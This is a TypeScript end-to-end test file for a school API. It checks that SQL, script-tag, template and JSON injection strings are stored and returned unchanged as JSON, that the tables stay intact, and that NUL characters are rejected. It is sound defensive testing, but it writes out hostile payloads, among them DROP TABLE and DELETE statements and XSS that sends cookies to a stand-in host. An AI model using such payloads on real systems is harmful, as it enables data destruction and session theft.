// SQL, script and template injection strings stored through the API, one test per string: each is
// returned byte-identical as JSON data, in the API's response, in its dashboard read and in the live
// activity_new on both transports; the tables are intact; both services stay healthy. Text PostgreSQL
// cannot store (U+0000) is refused with a 400 instead of failing in the database.
import t from 'tap'
import type { AnyEnvelope } from '@school/events'
import { PlainClient, SocketIoClient, startSystem } from '@school/test-support/system'
import { assertStillHealthy } from './hostile-checks.js'

const system = await startSystem(t, 'e2e_hostile_injection')
const { fixture } = system
const ownerA = await system.login(fixture.ownerA)
const legitimate = { token: await system.login(fixture.ownerB), schoolId: fixture.schoolB.id }
const schoolA = fixture.schoolA.id
const usersBefore = await system.prisma.user.count()

// Watching school A for the whole file: every stored string must arrive in activity_new as it was sent.
const watchers = [await PlainClient.connect(system.origin, schoolA, ownerA), await SocketIoClient.connect(system.origin, schoolA, ownerA)]
t.teardown(() => Promise.all(watchers.map((client) => client.close())))

const hostileStrings: Array<[string, string]> = [
  ['SQL that ends the statement', "'); DROP TABLE users;--"],
  ['SQL that ends a quoted value', `Robert"); DELETE FROM memberships WHERE ("1"="1`],
  ['a tautology', "' OR '1'='1' --"],
  ['a script tag', '<script>alert(1)</script>'],
  ['an event handler', '<img src=x onerror="alert(document.cookie)">'],
  ['a javascript: URL', 'javascript:alert(1)//'],
  ['template syntax', '{{constructor.constructor("alert(1)")()}} ${7*7} #{7*7}'],
  ['JSON that closes the value', '"}], "role": "school_owner", "x": [{"'],
  ['a right-to-left override and emoji', 'evil\u202egpj.exe 💥'],
  ['backslashes and a literal \\u0000', 'C:\\temp\\u0000\\n'],
]

/** The raw text of a JSON response, and its content type. */
async function rawJson(method: string, path: string, body?: unknown) {
  const response = await fetch(`${system.origin}${path}`, {
    method,
    headers: { authorization: `Bearer ${ownerA}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  })
  return { status: response.status, contentType: response.headers.get('content-type'), nosniff: response.headers.get('x-content-type-options'), text: await response.text() }
}

for (const [name, value] of hostileStrings) {
  t.test(`${name} (${JSON.stringify(value)}) is stored and returned byte-identical, as data`, async (t) => {
    const created = await rawJson('POST', `/api/accounts/schools/${schoolA}/students/`, { name: value })
    t.equal(created.status, 201)
    t.equal(created.contentType, 'application/json; charset=utf-8', 'served as JSON')
    t.equal(created.nosniff, 'nosniff', 'and never sniffed as anything else')
    t.ok(created.text.includes(`"name":${JSON.stringify(value)}`), 'the JSON text carries the string JSON-escaped')
    t.equal(JSON.parse(created.text).name, value, 'the response returns it byte-identical')

    const summary = `${fixture.ownerA.name} registered student ${value}`
    for (const client of watchers) {
      const live = (await client.inbox.waitFor(
        (m) => m.type === 'activity_new' && m.data.summary === summary,
        `activity_new for ${name} on ${client.kind}`,
      )) as Extract<AnyEnvelope, { type: 'activity_new' }>
      t.equal(live.data.summary, summary, `live activity_new on ${client.kind}, byte-identical`)
    }
    const dashboard = JSON.parse((await rawJson('GET', `/api/accounts/schools/${schoolA}/dashboard/`)).text) as { recentActivity: Array<{ summary: string }> }
    t.equal(dashboard.recentActivity[0]?.summary, summary, 'and in the dashboard read')

    const row = await system.prisma.user.findUniqueOrThrow({ where: { id: JSON.parse(created.text).id as number } })
    t.equal(row.name, value, 'stored as it was sent')
    t.equal(await system.prisma.user.count(), usersBefore + hostileStrings.findIndex(([n]) => n === name) + 1, 'the users table is intact')
    await assertStillHealthy(t, system, legitimate)
  })
}

t.test('an invitation message and a class name carry injection strings as data too', async (t) => {
  const message = "<script>fetch('//evil.test?c='+document.cookie)</script>'); DROP TABLE invitations;--"
  const invitation = await rawJson('POST', `/api/accounts/schools/${schoolA}/invitations/`, { email: 'target@example.com', role: 'teacher', message })
  t.equal(invitation.status, 201)
  t.equal(JSON.parse(invitation.text).message, message)
  const listed = JSON.parse((await rawJson('GET', `/api/accounts/schools/${schoolA}/invitations/`)).text) as Array<{ message: string }>
  t.equal(listed[0]?.message, message, 'listed back byte-identical')
  const className = "1A'; UPDATE schools SET name='pwned';--"
  const created = await rawJson('POST', `/api/accounts/schools/${schoolA}/classes/`, { name: className })
  t.equal(created.status, 201)
  t.equal(JSON.parse(created.text).name, className)
  const live = await watchers[0]!.inbox.waitFor((m) => m.type === 'activity_new' && m.data.summary === `${fixture.ownerA.name} created class ${className}`, 'the class in activity_new')
  t.equal(live.type, 'activity_new')
  t.same((await system.prisma.school.findMany({ orderBy: { id: 'asc' }, select: { name: true } })).map((s) => s.name), ['School A', 'School B'], 'no school was renamed')
  await assertStillHealthy(t, system, legitimate)
})

t.test('U+0000, which PostgreSQL text cannot hold, is refused with 400 naming the field; nothing is stored', async (t) => {
  const before = await system.prisma.domainEvent.count()
  const refused = await rawJson('POST', `/api/accounts/schools/${schoolA}/students/`, { name: "x\u0000'); DROP TABLE users;--" })
  t.same({ status: refused.status, body: JSON.parse(refused.text) }, {
    status: 400,
    body: { code: 'validation_failed', message: 'Invalid request body', errors: [{ field: 'name', message: 'must not contain the NUL character (U+0000)' }] },
  })
  t.equal(await system.prisma.domainEvent.count(), before, 'no event')
  await assertStillHealthy(t, system, legitimate)
})
